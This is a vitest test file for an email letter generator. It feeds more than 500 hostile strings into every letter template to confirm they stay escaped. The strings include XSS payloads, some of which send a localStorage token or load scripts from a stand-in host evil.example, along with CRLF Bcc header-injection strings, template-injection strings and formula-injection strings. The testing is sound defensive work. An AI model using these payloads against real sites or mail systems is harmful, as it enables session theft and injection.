import { Window } from "happy-dom"
import { describe, expect, it } from "vitest"
import type { LetterFacts, LetterName } from "#mail/letter-facts.ts"
import { writeLetter } from "#mail/mail.ts"
import { LANGUAGES } from "#shared/language.ts"
import { PROVIDER } from "#test/support/jobs.ts"

/** More than 500 texts that imitate markup: OWASP's filter evasion sheet, and texts that break headers and templates. */
const SCRIPTS = ["alert(1)", "fetch('//evil.example/'+localStorage.token)", "import('//evil.example/x.js')"]
const TAGS = (script: string) => [
  `<script>${script}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script\x20type="text/javascript">${script};</script>`,
  `<img src=x onerror=${script}>`,
  `<img src="x" onerror="${script}"/>`,
  `<IMG SRC=JaVaScRiPt:${script}>`,
  `<IMG """><SCRIPT>${script}</SCRIPT>">`,
  `<svg/onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<math><mtext></math><img src=x onerror=${script}>`,
  `<body onload=${script}>`,
  `<iframe src="javascript:${script}">`,
  `<a href="javascript:${script}">x</a>`,
  `<a href=" &#14; javascript:${script}">x</a>`,
  `<a href="jav&#x09;ascript:${script}">x</a>`,
  `<div style="background:url(javascript:${script})">`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  `<base href="javascript:${script}//">`,
  `<object data="data:text/html,<script>${script}</script>">`,
  `<embed src="//evil.example/x.swf">`,
  `<form action="//evil.example"><input name=password></form>`,
  `<details open ontoggle=${script}>`,
  `<video><source onerror="${script}">`,
  `<input autofocus onfocus=${script}>`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<!--<img src="--><img src=x onerror=${script}>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<xss id=x tabindex=1 onactivate=${script}></xss>`,
  `<p/onclick=${script}>x`,
]
const BREAKS = [
  "",
  "'",
  '"',
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</a>",
  "-->",
  "</td></tr></table>",
  "&quot;>",
  "\u0000",
]

const OTHERS = [
  "<<script>alert(1)//<</script>",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "＜script＞alert(1)＜/script＞",
  "javascript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "$" + "{alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= 7 * 7 %>",
  "$&$`$'$$",
  "%0d%0aBcc: everybody@brand.test",
  "\r\nBcc: everybody@brand.test\r\n\r\n<script>alert(1)</script>",
  "\u2028Subject: another",
  "\u202Etxt.exe",
  "=1+1",
  "x".repeat(2_000),
  "\ud800",
  "",
]

const ATTACKS: readonly string[] = [
  ...new Set([...SCRIPTS.flatMap(TAGS).flatMap((tag) => BREAKS.map((start) => start + tag)), ...OTHERS]),
]

const AT = Date.UTC(2026, 10, 21, 12, 5)
const URL = "https://touchmark.test/dashboard/profile"

/** Facts for every letter, with `text` wherever outsiders can influence it. */
function factsWith(text: string): { [Name in LetterName]: LetterFacts[Name] } {
  const report = { product_name: text, short_code: "G4V9-Y1PD-82K0", message: text, contact: text, at: AT }
  const company = text
  return {
    activation: { plan: "business", url: URL, hours: 24 },
    invitation: { company, inviter: text, url: URL, hours: 72 },
    invitation_elsewhere: { company, inviter: text },
    has_account: { url: URL, plan: "business" },
    administrator: { url: URL, hours: 24 },
    password_reset: { url: URL, hours: 1 },
    password_changed: { at: AT, url: URL, keys: [text], hosts: ["hooks.example.com"] },
    brand_key_event: {
      ...{ company, what: "added_waiting", network: "Sepolia", key: `0x${"a".repeat(64)}` },
      ...{ at: AT, url: URL, contact: text },
    },
    key_created: { name: text, scopes: "products:read", at: AT, expires_at: null, url: URL },
    verified: { company, url: URL },
    change_refused: { company: text, reason: text, url: URL },
    verification_refused: { company, reason: text, url: URL },
    verification_needs_more: { company, reason: text, url: URL },
    verification_withdrawn: { company, reason: text, url: URL },
    review_due: { company, url: URL },
    reviews_due: { due: 3, url: URL },
    suspended: { company, reason: text, contact: text },
    unsuspended: { company, url: URL },
    renewal_failed: { company, plan: "starter", url: URL },
    subscription_ended: { company, plan: "enterprise", url: URL },
    plan_change_scheduled: { company, plan: "enterprise", next_plan: "starter", at: AT, url: URL },
    plan_lowered: { company, plan: "starter", products_over: 1_500, users_over: 2, url: URL },
    receipt: {
      ...{ company, plan: "business", interval: "month", number: text, currency: "eur", tax: 5_373, total: 25_273 },
      ...{ paid_at: AT, from: AT, until: AT + 30 * 86_400_000, new_account: true, url: URL },
    },
    payment_refunded: { plan: "business", because: "had_already", contact: text },
    webhook_disabled: { company, host: "hooks.example.com", url: URL },
    case_digest: {
      ...{ company, more: 3, open: 9, url: URL },
      raised: [{ product_name: text, short_code: "0123-4567-89AK", level: "alarm" }],
    },
    contact_message: { name: text, email: text, message: text, at: AT },
    contact_messages: { messages: [1, 2].map((n) => ({ name: text, email: text, message: `${text} ${n}`, at: AT })) },
    product_report: { ...report, url: URL },
    report_received: { at: AT },
    product_report_copy: { ...report, company },
    account_closed: { company, contact: text },
  }
}

const NAMES = Object.keys(factsWith("")) as LetterName[]
const write = (name: LetterName, text: string, language: "en" | "hu", provider = PROVIDER) =>
  writeLetter(name, factsWith(text)[name], { to: "a@b.test", language }, provider)

describe.each(LANGUAGES)("letters in %s", (language) => {
  it.each(NAMES)("%s says the same in text and in HTML", (name) => {
    const { subject, text, html } = write(name, "Kékfestő Kft.", language)
    expect(subject).toMatch(/\S/)
    const shown = textOf(html)
    for (const line of text.split("\n")) {
      const words = line.replace(/^> /, "").trim()
      if (words !== "--" && words !== "") expect(shown).toContain(words.replace(/:$/, ""))
    }
    expect(html).toContain(`<html lang="${language}">`)
    expect(text + html).not.toMatch(/undefined|null|\[object|NaN/)
    expect(`${subject}${text}`).toMatchSnapshot()
  })

  it.each(NAMES)("%s stays words, whatever it is told", (name) => {
    const expected = tagsOf(write(name, "Kékfestő Kft.", language).html)
    const broken = ATTACKS.filter((attack) => {
      const provider = { name: attack, address: attack, email: attack }
      const { subject, html } = write(name, attack, language, provider)
      return tagsOf(html) !== expected || /[\p{Cc}\p{Zl}\p{Zp}]/u.test(subject) || subject.length > 150
    })
    expect(broken).toEqual([])
  })
})

it("the letter of a refusal claims no check: an administrator may refuse before any", () => {
  const said = LANGUAGES.map((language) => write("verification_refused", "Kékfestő Kft.", language).text)
  expect(said.join("\n")).not.toMatch(/we have checked|check again|vouch|átnéz|kezesked/i)
})

it("the letter of a verification says that shoppers have our word for who the company is", () => {
  const [en, hu] = LANGUAGES.map((language) => write("verified", "Kékfestő Kft.", language).text.replace(/\s+/g, " "))
  expect(en).toContain("Who you are, they take on our word.")
  expect(en).not.toContain("without having to take our word")
  expect(hu).toContain("a mi szavunkra hiszi el")
  expect(hu).not.toContain("nem kell nekünk hinnie")
})

it("there are enough attacks", () => expect(ATTACKS.length).toBeGreaterThan(500))

describe("the subject", () => {
  it("is one line that is not too long", () => {
    const { subject } = write("contact_message", `Béla\r\nBcc: everybody@brand.test\u2028${"x".repeat(300)}`, "en")
    expect(subject).toMatch(/^Message from Béla Bcc: everybody@brand\.test x+…$/)
    expect(subject).toHaveLength(150)
  })
})

function textOf(html: string): string {
  const { document } = new Window()
  document.write(html)
  return document.body.textContent ?? ""
}

/** All tags with their attributes, in order, so that an added or changed tag shows. Line breaks may differ. */
function tagsOf(html: string): string {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => tag !== "<br>").join("")
}
